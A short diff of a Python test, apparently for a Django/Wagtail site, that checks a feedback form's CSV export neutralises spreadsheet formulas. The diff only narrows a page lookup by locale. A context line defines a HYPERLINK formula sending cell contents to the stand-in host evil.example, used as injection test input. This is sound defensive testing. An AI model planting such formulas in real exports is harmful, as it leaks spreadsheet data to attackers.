@@ -17,7 +17,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 def test_form_submissions_csv_export_neutralises_formulas(client, make_user):
     setup_site()
-    page = FeedbackFormPage.objects.get(slug="palaute")
+    page = FeedbackFormPage.objects.get(slug="palaute", locale__language_code="fi")
     feedback, email = (field.clean_name for field in page.form_fields.order_by("sort_order"))
     FormSubmission.objects.create(page=page, form_data={feedback: FORMULA, email: "-1@example.org"})
     client.force_login(make_user(role=None, superuser=True))
